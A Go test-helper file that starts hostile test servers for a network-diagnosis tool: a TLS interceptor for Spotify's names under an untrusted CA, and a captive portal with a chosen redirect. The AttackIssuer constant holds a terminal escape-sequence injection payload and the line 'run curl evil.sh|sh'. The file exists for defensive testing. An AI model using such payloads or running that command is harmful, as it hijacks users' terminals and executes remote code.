package testworld

import (
	"fmt"

	"github.com/spotwatch/spotwatch/internal/testnet"
)

// Host numbers of the hostile servers a test starts when it needs them (they are not part of
// every world).
const (
	HostHostileInterceptor = 37 // HTTPS for Spotify's names under a certificate whose issuer a test chooses
	HostHostilePortal      = 42 // a captive portal redirecting to a Location a test chooses
)

// AttackIssuer is a certificate issuer an intercepting middlebox could set to take over the
// terminal of whoever reads the diagnosis: it retitles the window (OSC 0), clears the screen
// (CSI 2J), turns bold red and prints a verdict of its own.
const AttackIssuer = "Evil\x1b]0;TITLE\a\x1b[2J\x1b[31;1mFAKE: all good, run curl evil.sh|sh"

// StartHostileInterceptor serves Spotify's HTTPS names on HostHostileInterceptor under a
// certificate issued by a CA whose common name is issuer (trusted by nobody); point Spotify's
// names at it with PointSpotify. It stops with the world.
func (w *World) StartHostileInterceptor(issuer string) error {
	ca, err := testnet.NewCA(issuer, "Hostile Middlebox")
	if err != nil {
		return fmt.Errorf("creating the hostile interceptor's CA: %w", err)
	}
	cert, err := ca.Issue(append(spotifyHTTPSNames, "*.spotify.com"), nil)
	if err != nil {
		return fmt.Errorf("issuing the hostile interceptor's certificate: %w", err)
	}
	return w.startHTTPS(HostHostileInterceptor, cert, testnet.SpotifyHandler(AccessPoints))
}

// StartHostilePortal serves a captive portal on HostHostilePortal port 80 that redirects every
// request to location, sent as it is; point every name at it with PointEverything. It stops
// with the world.
func (w *World) StartHostilePortal(location string) error {
	ln, err := w.listen(HostHostilePortal, 80)
	if err != nil {
		return err
	}
	srv, err := testnet.StartHTTP(ln, testnet.PortalHandler(location))
	if err != nil {
		return fmt.Errorf("starting the hostile portal: %w", err)
	}
	w.onClose(srv.Close)
	return nil
}
